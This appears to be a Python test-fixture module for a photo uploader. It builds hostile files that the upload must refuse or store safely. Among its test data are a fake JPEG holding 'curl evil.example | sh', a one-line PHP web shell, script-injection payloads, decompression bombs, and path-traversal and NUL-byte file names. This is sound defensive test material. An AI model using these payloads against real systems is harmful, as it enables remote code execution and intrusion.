"""Hostile and awkward files for the photo upload and the importer."""

import io
import struct

from PIL import Image

from tests.factories import photo_bytes
from tests.test_images import animated_png, gif_bytes, png_bomb


def jpeg_with_html_inside() -> bytes:
    """A real JPEG that is also an HTML page: markup in a comment and after the end."""
    jpeg = photo_bytes(320, 240)
    html = b"<html><body><script>alert(document.cookie)</script></body></html>"
    comment = b"\xff\xfe" + struct.pack(">H", len(html) + 2) + html
    return jpeg[:2] + comment + jpeg[2:] + html


def cmyk_jpeg() -> bytes:
    buffer = io.BytesIO()
    Image.new("CMYK", (200, 120), (10, 200, 30, 5)).save(buffer, "JPEG")
    return buffer.getvalue()


def png_16_bit() -> bytes:
    buffer = io.BytesIO()
    Image.linear_gradient("L").convert("I;16").resize((300, 200)).save(buffer, "PNG")
    return buffer.getvalue()


def animated_webp() -> bytes:
    buffer = io.BytesIO()
    frames = [Image.new("RGB", (40, 40), colour) for colour in ("red", "blue")]
    frames[0].save(buffer, "WEBP", save_all=True, append_images=frames[1:])
    return buffer.getvalue()


def huge_dimensions_jpeg_header() -> bytes:
    """A JPEG header claiming 60,000 × 60,000 pixels, in a few hundred bytes."""
    jpeg = bytearray(photo_bytes(16, 16))
    at = jpeg.index(b"\xff\xc0") + 5
    jpeg[at : at + 4] = struct.pack(">HH", 60_000, 60_000)
    return bytes(jpeg)


# name: (content, file name, what the refusal says)
REFUSED = {
    "shell script renamed .jpg": (
        b"#!/bin/sh\ncurl evil.example | sh\n",
        "holiday.jpg",
        "not a JPEG, PNG or WebP",
    ),
    "PHP renamed .jpg": (b"<?php system($_GET['c']); ?>", "x.jpg", "not a JPEG"),
    "HTML with script": (
        b"<!doctype html><html><script>alert(1)</script></html>",
        "page.jpg",
        "not a JPEG, PNG or WebP",
    ),
    "SVG with script": (
        b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
        "drawing.svg",
        "SVG drawings are not accepted",
    ),
    "truncated JPEG": (photo_bytes(800, 600)[:2500], "cut.jpg", "damaged"),
    "decompression bomb PNG": (png_bomb(), "bomb.png", "too many pixels"),
    "decompression bomb JPEG header": (
        huge_dimensions_jpeg_header(),
        "bomb.jpg",
        "too many pixels",
    ),
    "animated GIF": (gif_bytes(), "anim.gif", "This file is a GIF image"),
    "animated PNG": (animated_png(), "anim.png", "Animated pictures are not accepted"),
    "animated WebP": (
        animated_webp(),
        "anim.webp",
        "Animated pictures are not accepted",
    ),
    "zero-byte file": (b"", "empty.jpg", "empty"),
}

# name: (content, file name); each is stored, and stored safely.
STORED = {
    "polyglot JPEG/HTML": (jpeg_with_html_inside(), "polyglot.jpg"),
    "CMYK JPEG": (cmyk_jpeg(), "print.jpg"),
    "16-bit PNG": (png_16_bit(), "scan.png"),
    "name with ../": (photo_bytes(200, 150), "../../../etc/cron.d/evil.jpg"),
    "name with NUL": (photo_bytes(210, 150), "evil\x00.php.jpg"),
    "name of 300 characters": (photo_bytes(220, 150), "a" * 296 + ".jpg"),
    **{
        f"EXIF orientation {n}": (photo_bytes(240, 160, orientation=n), f"o{n}.jpg")
        for n in range(1, 9)
    },
}
